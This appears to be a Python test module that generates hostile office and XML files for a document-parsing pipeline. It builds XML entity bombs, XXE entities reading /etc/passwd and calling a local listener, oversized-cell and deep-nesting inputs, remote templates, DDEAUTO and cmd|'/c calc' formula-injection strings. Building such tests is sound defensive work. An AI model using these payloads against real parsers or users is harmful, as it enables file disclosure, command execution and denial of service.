"""Hostile insides of workbooks and documents: XML that grows or reaches out, far cells, depth, links."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator

import xlwt
from form_files import FORM, docx_bytes

from corpus.cases import TRUTH, Case, Form, Harmless, Kept, SetAside, one
from corpus.hostile_zip import SHEET
from corpus.sheets import (
    OFFICE_NS,
    PACKAGE_NS,
    SHEET_NS,
    changed,
    delimited,
    html,
    inline_xlsx,
    member,
    open_document,
    open_table,
    rows,
    xlsb,
    xlsx,
    xml_2003,
)

FAR = "以下或第|过大|异常"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_GROWING = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<!DOCTYPE a [<!ENTITY e0 "aaaaaaaaaa">{_GROWING}<!ENTITY x "&e9;">]>'


def cases(address: str) -> Iterator[Case]:
    """One line of the table a trap. `address`: of a listener on this machine that nothing may call."""
    outside = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{address}/xxe"><!ENTITY % p SYSTEM "{address}/p.dtd"> %p;]>'
    secret = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield from _with_entity("XML bomb", BOMB)
    yield from _with_entity("XML outside entity", outside)
    yield from _with_entity("XML outside entity", secret)
    yield from _far_cells()
    yield from _deep_and_many()
    yield from _reaching_out(address)
    yield from _formulas_typed_as_text()


def _with_entity(line: str, before: str) -> Iterator[Case]:
    """A DTD and a reference to its entity x in the title, in every format that is XML."""
    n = len(before)
    title = FORM.title
    document = docx_bytes()
    body = member(document, "word/document.xml").decode().replace(title, f"{title}&x;")
    head, _, rest = body.partition("?>")
    files = {
        "docx": changed(document, {"word/document.xml": f"{head}?>{before}{rest}"}),
        "xlsx": inline_xlsx([], before + _sheet_xml().replace(title, f"{title}&x;")),
        "ods": open_document(open_table(rows()).replace(title, f"{title}&x;"), before=before),
        "odt": open_document(f"<text:p>&x;</text:p>{open_table(rows())}", "text", before),
        "xls": xml_2003(rows(), before).replace(title.encode(), f"{title}&x;".encode()),
        "html": (before.encode() + html(rows())).replace(title.encode(), f"{title}&x;".encode()),
        "svg": f'<?xml version="1.0"?>{before}<svg><text>&x;</text></svg>'.encode(),
    }
    for ending, data in files.items():
        yield one(line, f"实体{n}.{ending}", data, Harmless())


def _sheet_xml() -> str:
    return member(inline_xlsx(rows()), SHEET).decode()


def _far_cells() -> Iterator[Case]:
    line = "far cell"
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    sheet = _sheet_xml()
    yield one(line, "远.xlsx", inline_xlsx([], sheet.replace("</sheetData>", far)), SetAside(FAR))
    lower = sheet.replace("</sheetData>", far.lower().replace("sheetdata", "sheetData"))
    yield one(line, "小写.xlsx", inline_xlsx([], lower), Harmless())
    hidden = sheet.replace("</sheetData>", far.replace('r="XFD', 'r="&#88;FD'))
    yield one(line, "字符引用.xlsx", inline_xlsx([], hidden), Harmless())
    nameless = "<row>" + "<c><v>1</v></c>" * 16384 + "</row></sheetData>"
    yield one(
        line,
        "无坐标.xlsx",
        inline_xlsx([], sheet.replace("</sheetData>", nameless)),
        SetAside(FAR),
    )
    empty = '<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'
    yield one(line, "远处空白.xlsx", inline_xlsx([], sheet.replace("</sheetData>", empty)), Form())
    lie = sheet.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')
    yield one(line, "谎报范围.xlsx", inline_xlsx([], lie), Form())
    yield one(line, "远.xlsb", xlsb(rows(), (1_048_575, 16_383)), SetAside(FAR))
    yield one(line, "远.xls", _far_xls(), SetAside(FAR))
    for name, more in {
        "重复列": _repeated(1, 16_384),
        "重复行": _repeated(1_048_576, 16_384),
        "很多重复": _repeated(900, 90) * 3000,
        "空白后": _repeated(1, 999_999_999, "").replace(
            "</table:table-row>", _CELL.format("") + "</table:table-row>"
        ),
    }.items():
        yield one(line, f"{name}.ods", open_document(open_table(rows(), more)), SetAside(FAR))
    blank = _repeated(1_048_000, 16_384, "")
    yield one(line, "尾部空白.ods", open_document(open_table(rows(), blank)), Form())
    spaces = '<text:p><text:s text:c="2000000000"/></text:p>'
    spaces = _repeated(1, 1).replace(
        "/></table:table-row>", f">{spaces}</table:table-cell></table:table-row>"
    )
    yield one(line, "空格.ods", open_document(open_table(rows(), spaces)), Harmless())
    wide = html([["a"]]).replace(b"<td>", b'<td colspan="999999999" rowspan="999999999">')
    yield one(line, "跨列.html", wide, Harmless())
    far_row = (
        '<Row ss:Index="999999999"><Cell ss:Index="999999999"><Data ss:Type="Number">1</Data></Cell></Row>'
    )
    yield one(line, "远.xml", xml_2003(rows(), more=far_row), Harmless())
    yield one(line, "百万列.csv", b"1," * 1_000_000 + b"\n" + delimited(rows()).encode(), Harmless())


_CELL = '<table:table-cell office:value-type="float" office:value="1" {}/>'


def _repeated(lines: int, columns: int, cell: str = _CELL) -> str:
    """A row of an ods that stands for so many lines and columns; without a `cell` it is empty."""
    cell = (cell or "<table:table-cell {}/>").format(f'table:number-columns-repeated="{columns}"')
    return f'<table:table-row table:number-rows-repeated="{lines}">{cell}</table:table-row>'


def _far_xls() -> bytes:
    book = xlwt.Workbook()
    sheet = book.add_sheet("a")
    sheet.write(0, 0, 1)
    sheet.write(65_535, 255, 1)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _deep_and_many() -> Iterator[Case]:
    line = "depth and numbers in XML"
    yield one(
        line, "深度.xlsx", inline_xlsx([], f'<worksheet xmlns="{SHEET_NS}">' + "<a>" * 100_000), Harmless()
    )
    cell = "<w:tbl><w:tr><w:tc>"
    for depth in (200, 10_000):
        yield one(
            line,
            f"嵌套{depth}.docx",
            _document(cell * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth),
            Harmless(),
        )
    table = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    yield one(line, "很多表.docx", _document(table * 20_000), Harmless())
    wide = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
    yield one(line, "跨列.docx", _document(wide), Kept())
    merges = "".join(f'<mergeCell ref="Z{n}:AA{n}"/>' for n in range(1, 200_000))
    merged = _sheet_xml().replace("</sheetData>", f"</sheetData><mergeCells>{merges}</mergeCells>")
    yield one(line, "合并很多.xlsx", inline_xlsx([], merged), Harmless())
    strings = "".join(f"<si><t>{n:x}</t></si>" for n in range(1_500_000))
    shared = f'<sst xmlns="{SHEET_NS}" count="1" uniqueCount="1">{strings}</sst>'
    yield one(line, "字符串很多.xlsx", changed(xlsx(), {"xl/sharedStrings.xml": shared}), Harmless())
    yield one(line, "层层.html", b"<table><tr><td>" * 50_000, Harmless())
    yield one(line, "深度.xml", b"<?xml version='1.0'?>" + b"<a>" * 200_000, Harmless())
    yield one(line, "括号.rtf", b"{\\rtf1 " + b"{" * 500_000, Harmless())


def _document(body: str) -> bytes:
    return changed(
        docx_bytes(), {"word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'}
    )


def _reaching_out(address: str) -> Iterator[Case]:
    """Macros, DDE, outside links and templates: the figures are read, and nothing runs or is fetched."""
    line = "macro, DDE, outside link"
    relation = (
        f'<Relationships xmlns="{PACKAGE_NS}/relationships"><Relationship Id="rId1" TargetMode="External"'
        f' Type="{OFFICE_NS}/attachedTemplate" Target="{address}/template.dotm"/></Relationships>'
    )
    template = {"word/_rels/settings.xml.rels": relation}
    yield one(line, "远程模板.docx", changed(docx_bytes(), template))
    dde = (
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p><w:sectPr'
    )
    body = member(docx_bytes(), "word/document.xml").decode().replace("<w:sectPr", dde, 1)
    yield one(line, "DDE.docx", changed(docx_bytes(), {"word/document.xml": body}))
    formulas: dict[str, str] = {
        "DDE": "cmd|'/c calc'!A0",
        "WEBSERVICE": f'WEBSERVICE("{address}/w")',
        "外部": f"'{address}/[x.xlsx]Sheet1'!A1",
    }
    unsaved = Form({**TRUTH, "activities.held": None})
    for name, formula in formulas.items():
        yield one(line, f"{name}.xlsx", xlsx({"activities.held": f"={formula}"}), unsaved)
    formula = f'table:formula="of:=WEBSERVICE(&quot;{address}/ods&quot;)"'
    cell = f"<table:table-row><table:table-cell {formula}/></table:table-row>"
    yield one(line, "公式.ods", open_document(open_table(rows(), cell)), Form())
    picture = f'<img src="{address}/pixel.png"><link rel="stylesheet" href="{address}/style.css">'
    yield one(line, "图片.html", html(rows(), before=picture))
    field = f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{address}/p.png"}}}}'
    field = f"{{\\rtf1{{\\*\\template {address}/t.dot}}{field} a}}"
    yield one(line, "模板.rtf", field.encode(), Kept())
    link = f'xlink:href="{address}/s.odt" xmlns:xlink="http://www.w3.org/1999/xlink"'
    section = f'<text:section text:name="s"><text:section-source {link}/></text:section>'
    yield one(line, "链接.odt", open_document(section + open_table(rows()), "text"))


_TEXTS = ('=HYPERLINK("http://x.example","点此")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "=cmd|'/c calc'!A0")


def _formulas_typed_as_text() -> Iterator[Case]:
    """Text that begins as a formula does, in formats where it is text: no exact number, nothing run."""
    build: dict[str, Callable[[str], bytes]] = {
        "csv": lambda text: delimited(rows({"activities.held": text})).encode(),
        "xlsx": lambda text: inline_xlsx(rows({"activities.held": text})),
        "html": lambda text: html(rows({"activities.held": text})),
    }
    for n, text in enumerate(_TEXTS):
        for ending, make in build.items():
            truth = Form({**TRUTH, "activities.held": None})
            yield one("formula as text", f"公式{n}.{ending}", make(text), truth)
